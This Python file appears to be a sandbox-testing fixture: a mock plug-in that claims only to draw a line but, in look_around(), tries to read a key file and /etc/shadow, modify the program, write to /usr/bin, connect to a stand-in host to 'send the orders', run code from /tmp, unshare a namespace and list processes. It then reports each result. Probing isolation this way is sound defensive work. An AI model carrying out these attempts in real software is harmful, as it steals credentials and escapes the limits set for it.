"""A plug-in as one gets it from somewhere: it says that it draws a line, and tries a few things besides."""
import os
import socket
import subprocess


def look_around():
    yield "read the shop's key", lambda: open("prices.key").read()
    yield "read /etc/shadow", lambda: open("/etc/shadow").read()
    yield "change the program", lambda: open("main.py", "a").write("# hello\n")
    yield "leave something in /usr/bin", lambda: open("/usr/bin/helper", "w")
    yield "send the orders to 192.0.2.1", lambda: socket.create_connection(("192.0.2.1", 443), timeout=2)
    yield "run what it wrote to /tmp", run_from_tmp
    unshare = ["unshare", "-U", "true"]
    yield "become root in a namespace", (lambda: os.unshare(0x10000000) if hasattr(os, "unshare")
                                         else subprocess.run(unshare, check=True, stderr=subprocess.DEVNULL))
    yield "see other processes", lambda: [int(p) for p in os.listdir("/proc")
                                           if p.isdigit() and int(p) != os.getpid()][0]


def run_from_tmp():
    with open("/tmp/tool", "w") as file:
        file.write("#!/bin/sh\necho it runs\n")
    os.chmod("/tmp/tool", 0o755)
    subprocess.run(["/tmp/tool"], check=True)


def decorate(result):
    print("the plug-in draws a line:", "-" * 12, f"({len(result)} products)")
    for what, attempt in look_around():
        try:
            attempt()
            print(f"  and it could {what}!")
        except OSError as error:
            print(f"  it tried to {what}: {error.strerror}")
        except subprocess.CalledProcessError:
            print(f"  it tried to {what}: Operation not permitted")
        except IndexError:
            print(f"  it tried to {what}: there are none")
